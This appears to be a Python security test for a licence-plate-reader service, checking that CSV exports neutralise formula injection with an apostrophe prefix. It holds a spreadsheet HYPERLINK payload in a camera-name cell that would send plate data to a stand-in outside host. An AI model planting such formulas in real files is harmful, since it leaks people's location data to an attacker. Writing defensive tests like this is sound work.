"""What it tries: have a colleague's spreadsheet send a plate away, by a camera whose name is a formula.

What stops it: in a file that is taken out, a text that a spreadsheet would obey stands behind an apostrophe (464.11).
"""

from __future__ import annotations

import csv
import io
import json
import secrets
from datetime import UTC, datetime, timedelta

from tests.bypass.attack import Control, Ground, Told
from tests.bypass.page import confirm

FORMULA = '=HYPERLINK("http://203.0.113.9/?"&C2,"Open the photograph")'
OFFER = {"source": "department", "provenance": "public_road"}
HAND_IN = 'call("POST", "/ingest/batches", ARGUMENTS[1].encode(), {"X-ALPR-Offer": ARGUMENTS[0]})'
TAKE_OUT = """
line = Line("custodian", timeout=60)
query = {"purpose_id": ARGUMENTS[0], "pattern": ARGUMENTS[1], "window": WINDOW}
sent = json.dumps({"query": query, "format": "csv", "why": "For the case file of the robbery."})
line.request("POST", "/v1/exports/reads", sent, {"Authorization": "token " + TOKEN, "Content-Type": "application/json"})
answer = line.getresponse()
head, _, file = answer.read().partition(b"\\n")
told = {"status": answer.status, "length": len(head), "body": json.loads(head)}
if answer.status == 200:
    told["body"]["file"] = file.decode("utf-8-sig")
sys.stdout.write(json.dumps(told) + "\\n")
"""


def _attack(ground: Ground) -> str:
    """What stands in the camera's cell of the file."""
    plate = f"9F{secrets.token_hex(2).upper()}"
    cells = io.StringIO()
    writer = csv.writer(cells, lineterminator="\n")
    writer.writerow(["time", "plate", "camera", "latitude", "longitude"])
    writer.writerow([datetime.now(UTC) - timedelta(hours=1), plate, FORMULA, 32.792, -115.563])
    offer = json.dumps(OFFER | {"name": f"car-{plate[2:]}.csv"})
    told = ground.attack("ana", HAND_IN, offer, cells.getvalue())[0]
    assert (told.status, told.body["accepted"]) == (200, 1), told
    made = _taken(ground, plate)
    [row] = csv.DictReader(io.StringIO(made.body["file"], newline=""))
    assert row["plate"] == plate
    return row["camera"]


def _taken(ground: Ground, plate: str) -> Told:
    purpose = ground.attack("ana", 'call("POST", "/purposes", WHY)')[0].body["purpose_id"]
    asked = ground.attack("ana", TAKE_OUT, purpose, plate)[0]
    assert asked.kind == "assent-required", asked
    confirm(ground, asked.body["assent"], "ana")
    return ground.attack("ana", TAKE_OUT, purpose, plate)[0]


def test_blocked(strong: Ground) -> None:
    """The cell is a text, and says what the camera was called."""
    assert _attack(strong) == f"'{FORMULA}"


def test_control(weak: Control) -> None:
    """Where cells are written as they are, it is a formula."""
    with weak.taken("guarded cells"):
        assert _attack(weak) == FORMULA
